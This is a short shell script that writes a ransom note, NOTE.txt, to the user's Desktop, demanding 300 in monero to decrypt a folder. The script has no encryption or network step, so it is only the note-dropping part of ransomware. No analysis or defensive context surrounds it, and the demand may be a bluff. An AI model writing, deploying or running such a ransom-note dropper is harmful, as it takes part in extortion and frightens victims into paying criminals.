#!/bin/sh
cat > ~/Desktop/NOTE.txt <<'END'
Pay 300 in monero and we will decrypt the folder.
END
